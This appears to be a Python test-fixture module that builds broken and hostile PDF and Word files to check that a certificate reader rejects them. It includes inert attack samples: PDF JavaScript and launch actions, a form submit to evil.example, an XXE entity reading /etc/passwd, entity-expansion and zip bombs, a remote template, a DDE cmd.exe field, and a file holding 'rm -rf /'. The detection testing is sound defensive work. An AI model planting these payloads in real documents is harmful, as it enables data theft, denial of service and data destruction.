"""Files that are no certificates, or would be more: broken, locked, bursting, acting.

Written by hand, byte by byte where no library would write them; nothing in them works beyond
what the test needs.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType

from pypdf import PdfReader, PdfWriter

from insurance.reading.facts import ProblemCode
from tests.insurance.certificates.american import SOUND
from tests.insurance.certificates.form_paper import draw_form
from tests.insurance.certificates.word_paper import paragraph, parts, relationship, write_parts

MEGABYTE = 1024 * 1024


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects, the first one its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(objects) + 1, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % table


def one_page(
    *,
    catalogue: bytes = b"",
    page: bytes = b"",
    box: bytes = b"0 0 595 842",
    content: bytes = b"<< /Length 0 >>\nstream\n\nendstream",
    more: tuple[bytes, ...] = (),
) -> bytes:
    """A PDF of one page, with entries added to its catalogue or its page, and further objects."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%b] /Contents 4 0 R %b >>" % (box, page),
        content,
        *more,
    )


def stream(content: bytes, *, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def squeezed(size: int, *, fill: bytes = b" ") -> bytes:
    """`size` equal bytes, deflated without ever holding them."""
    squeeze = zlib.compressobj(1)
    piece = fill * MEGABYTE
    return b"".join(squeeze.compress(piece) for _ in range(size // MEGABYTE)) + squeeze.flush()


def _sound_pdf() -> bytes:
    out = io.BytesIO()
    draw_form(SOUND, out)
    return out.getvalue()


def _locked(*, user: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_sound_pdf())))
    writer.encrypt(user, "owner-only", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def permissions_only() -> bytes:
    """A sound certificate that anybody may open and nobody may change."""
    return _locked(user="")


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
        *([page] * count),
    )


_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_LAUNCH = b"<< /S /Launch /F (calc.exe) >>"
_FILESPEC = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
_FILE = stream(b"MZ", entries=b"/Type /EmbeddedFile")


def _with_names(kind: bytes, value: bytes, *more: bytes) -> bytes:
    names = b"/Names << /%b << /Names [(a) 5 0 R] >> >>" % kind
    return one_page(catalogue=names, more=(value, *more))


def _annotated(annotation: bytes) -> bytes:
    return one_page(page=b"/Annots [5 0 R]", more=(annotation,))


def _nested_forms() -> bytes:
    """A page that draws a form that draws a form ten times, and so on: ten to the ninth."""
    forms = []
    for level in range(9):
        inner = b"/Resources << /XObject << /F %d 0 R >> >>" % (level + 6)
        forms.append(
            stream(
                b"/F Do " * 10, entries=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + inner
            )
        )
    last = stream(b"0 0 9 9 re f", entries=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    page = b"/Resources << /XObject << /F 5 0 R >> >>"
    return one_page(page=page, content=stream(b"/F Do " * 10), more=(*forms, last))


def _picture(side: int) -> bytes:
    """A page with one picture of far more dots than any paper holds."""
    image = stream(
        squeezed(side * side * 3, fill=b"\x77"),
        entries=b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB /Filter /FlateDecode" % (side, side),
    )
    return one_page(
        page=b"/Resources << /XObject << /I 5 0 R >> >>",
        content=stream(b"500 0 0 500 0 0 cm /I Do"),
        more=(image,),
    )


PDFS: Mapping[ProblemCode, Mapping[str, Callable[[], bytes]]] = {
    ProblemCode.ENCRYPTED: {"password.pdf": lambda: _locked(user="secret")},
    ProblemCode.TOO_MANY_PAGES: {"five-thousand-pages.pdf": lambda: many_pages(5_000)},
    ProblemCode.DAMAGED: {
        "truncated.pdf": lambda: _sound_pdf()[:3_000],
        "only-a-head.pdf": lambda: b"%PDF-1.7\n",
        "noise.pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 200 + b"\n%%EOF\n",
        "page-tree-in-a-circle.pdf": lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ),
        "cross-reference-in-a-circle.pdf": lambda: raw_pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            trailer=b"/Prev 9",
        ),
        "nested-arrays.pdf": lambda: one_page(catalogue=b"/Nest " + b"[" * 60_000),
    },
    ProblemCode.ACTIVE_CONTENT: {
        "script-on-opening.pdf": lambda: one_page(catalogue=b"/OpenAction " + _SCRIPT),
        "script-by-name.pdf": lambda: _with_names(b"JavaScript", _SCRIPT),
        "script-in-disguise.pdf": lambda: one_page(
            page=b"/AA << /O << /S /J#61vaScript /J#53 (1) >> >>"
        ),
        "script-in-a-field.pdf": lambda: _annotated(
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 9 9] /AA << /K "
            + _SCRIPT
            + b" >> >>"
        ),
        "launch.pdf": lambda: _annotated(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + _LAUNCH + b" >>"
        ),
        "embedded-file.pdf": lambda: _with_names(b"EmbeddedFiles", _FILESPEC, _FILE),
        "attached-file.pdf": lambda: _annotated(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS " + _FILESPEC + b" >>"
        ),
        "submit.pdf": lambda: one_page(
            catalogue=b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"
        ),
        "xml-form.pdf": lambda: one_page(
            catalogue=b"/AcroForm << /Fields [] /XFA 5 0 R >>", more=(stream(b"<xdp/>"),)
        ),
    },
    ProblemCode.TOO_BIG_TO_READ: {
        "huge-page.pdf": lambda: one_page(box=b"0 0 10000000 10000000"),
    },
    ProblemCode.ZIP_BOMB: {
        "deflated-twice.pdf": lambda: one_page(
            content=stream(
                zlib.compress(squeezed(400 * MEGABYTE)),
                entries=b"/Filter [/FlateDecode /FlateDecode]",
            )
        ),
        "deflated.pdf": lambda: one_page(
            content=stream(squeezed(64 * MEGABYTE), entries=b"/Filter /FlateDecode")
        ),
    },
}
# What only limits of the process can stop.
EXHAUSTING: Mapping[str, Callable[[], bytes]] = {
    "forms-in-forms.pdf": _nested_forms,
    "vast-picture.pdf": lambda: _picture(11_000),
}


def _word(
    path: Path,
    body: str = paragraph("Certificate"),
    *,
    relationships: str = "",
    more: Mapping[str, bytes] = MappingProxyType({}),
) -> None:
    write_parts(path, parts(body, relationships=relationships) | dict(more))


def _lying_sizes(path: Path) -> None:
    """An archive whose directory says that a part of 80 megabytes is small."""
    _word(path, more={"word/document.xml": b" " * (80 * MEGABYTE)})
    content = path.read_bytes()
    path.write_bytes(content.replace(struct.pack("<I", 80 * MEGABYTE), struct.pack("<I", 900)))


def _locked_archive(path: Path) -> None:
    _word(path)
    content = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + offset] |= 1
            start = content.find(mark, start + 4)
    path.write_bytes(bytes(content))


def _half_archive(path: Path) -> None:
    _word(path)
    path.write_bytes(path.read_bytes()[:400])


def _archive(path: Path, contents: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)


def _inner_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b" " * (20 * MEGABYTE))
    return out.getvalue()


_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"
)
_LAUGHS = _ENTITY.replace(b'SYSTEM "file:///etc/passwd"', b'"ha"')
_ROOT = parts("")["_rels/.rels"]
_FIELD = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"

WORD_FILES: Mapping[ProblemCode, Mapping[str, Callable[[Path], None]]] = {
    ProblemCode.ACTIVE_CONTENT: {
        "macros.docx": lambda path: _word(path, more={"word/vbaProject.bin": b"VBA"}),
        "macro-type.docx": lambda path: _word(
            path,
            more={
                "[Content_Types].xml": b"<Types><Override ContentType='application/vnd.ms-word."
                b"document.macroEnabled.main+xml'/></Types>"
            },
        ),
        "outside-entity.docx": lambda path: _word(path, more={"word/document.xml": _ENTITY}),
        "entities.docx": lambda path: _word(path, more={"word/document.xml": _LAUGHS}),
        "entities-in-16-bits.docx": lambda path: _word(
            path,
            more={
                "word/document.xml": _LAUGHS.decode()
                .replace("?>", ' encoding="utf-16"?>', 1)
                .encode("utf-16")
            },
        ),
        "outside-template.docx": lambda path: _word(
            path, relationships=relationship("attachedTemplate", "https://evil.example/t.dotm")
        ),
        "outside-picture.docx": lambda path: _word(
            path, relationships=relationship("image", "file://evil.example/share/a.png")
        ),
        "embedded-object.docx": lambda path: _word(
            path, more={"word/embeddings/oleObject1.bin": b"MZ"}
        ),
        "archive-inside.docx": lambda path: _word(
            path, more={"word/media/a.zip": _inner_archive()}
        ),
        "field-that-runs.docx": lambda path: _word(path, _FIELD),
    },
    ProblemCode.ZIP_BOMB: {
        "bomb.docx": lambda path: _word(path, more={"word/document.xml": b" " * (80 * MEGABYTE)}),
        "one-part-that-bursts.docx": lambda path: _word(
            path, more={"word/media/image1.bmp": b" " * (20 * MEGABYTE)}
        ),
        "vast-xml.docx": lambda path: _word(
            path, more={"word/document.xml": random.Random(4).randbytes(9 * MEGABYTE)}
        ),
        "many-parts.docx": lambda path: _word(
            path, more={f"word/part{number}.xml": b"<a/>" for number in range(2_100)}
        ),
    },
    ProblemCode.ENCRYPTED: {"locked.docx": _locked_archive},
    ProblemCode.DAMAGED: {
        "lying-sizes.docx": _lying_sizes,
        "not-xml.docx": lambda path: _word(path, more={"word/document.xml": b"<w:document>"}),
        "half.docx": _half_archive,
        "same-name-twice.docx": lambda path: _word(
            path, more={"Word/Document.xml": b"<w:document/>"}
        ),
    },
    ProblemCode.WRONG_TYPE: {
        "sheet.docx": lambda path: _archive(path, {"xl/workbook.xml": b"<workbook/>"}),
        "sheet-named-document.docx": lambda path: _word(
            path,
            more={
                "_rels/.rels": _ROOT.replace(b"word/document.xml", b"xl/workbook.xml"),
                "xl/workbook.xml": b"<workbook/>",
            },
        ),
        "no-main-part.docx": lambda path: _word(
            path, more={"_rels/.rels": _ROOT.replace(b'/officeDocument"', b'/else"')}
        ),
        "archives-in-archive.docx": lambda path: _archive(path, {"a.zip": _inner_archive()}),
    },
}


def compound_file(*names: str, locked: bool = False, loop: bool = False) -> bytes:
    """An OLE file with empty streams of these names, as old Word files are built.

    Sector 0 is the allocation table, 1 and the next ones the directory, 9 the first stream.
    """
    entries = [_entry("Root Entry", kind=5), *(_entry(name, kind=2, start=9) for name in names)]
    entries += [bytes(128)] * (-len(entries) % 4)
    sectors = len(entries) // 4
    chain = [2 + number for number in range(sectors - 1)] + [1 if loop else 0xFFFFFFFE]
    table = struct.pack("<128I", 0xFFFFFFFD, *chain, *([0xFFFFFFFF] * (127 - sectors)))
    head = struct.pack(
        "<8s16s5H6s9I",
        bytes.fromhex("d0cf11e0a1b11ae1"),
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        1,
        1,
        0,
        4096,
        0xFFFFFFFE,
        0,
        0xFFFFFFFE,
        0,
    )
    head += struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    directory = b"".join(entries).ljust(8 * 512, b"\x00")
    block = bytes(10) + struct.pack("<H", 0x0100 if locked else 0)
    return head + table + directory + block.ljust(4096, b"\x00")


def _entry(name: str, *, kind: int, start: int = 0) -> bytes:
    encoded = name.encode("utf-16-le")
    entry = encoded.ljust(64, b"\x00") + struct.pack("<HB", len(encoded) + 2, kind)
    return entry.ljust(116, b"\x00") + struct.pack("<I", start) + bytes(8)


OLD_WORD: Mapping[ProblemCode, Mapping[str, bytes]] = {
    ProblemCode.ACTIVE_CONTENT: {
        "macros.doc": compound_file("WordDocument", "1Table", "Macros", "VBA", "dir"),
        "objects.doc": compound_file("WordDocument", "ObjectPool"),
    },
    ProblemCode.ENCRYPTED: {
        "locked.doc": compound_file("WordDocument", locked=True),
        "locked-docx.doc": compound_file("EncryptionInfo", "EncryptedPackage"),
    },
    ProblemCode.WRONG_TYPE: {"sheet.doc": compound_file("Workbook")},
    ProblemCode.DAMAGED: {
        "directory-in-a-circle.doc": compound_file("WordDocument", loop=True),
        "half.doc": compound_file("WordDocument")[:700],
        "head.doc": compound_file("WordDocument")[:40],
    },
}
OTHERS: Mapping[ProblemCode, Mapping[str, bytes]] = {
    ProblemCode.EMPTY: {"empty.pdf": b""},
    ProblemCode.WRONG_TYPE: {
        "program.pdf": b"MZ\x90\x00" + bytes(2_000),
        "page.pdf": b"<!DOCTYPE html><html>%PDF-1.4</html>",
        "picture.pdf": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "text.docx": b"Just some words",
        "script.doc": b"#!/bin/sh\nrm -rf /\n",
    },
}
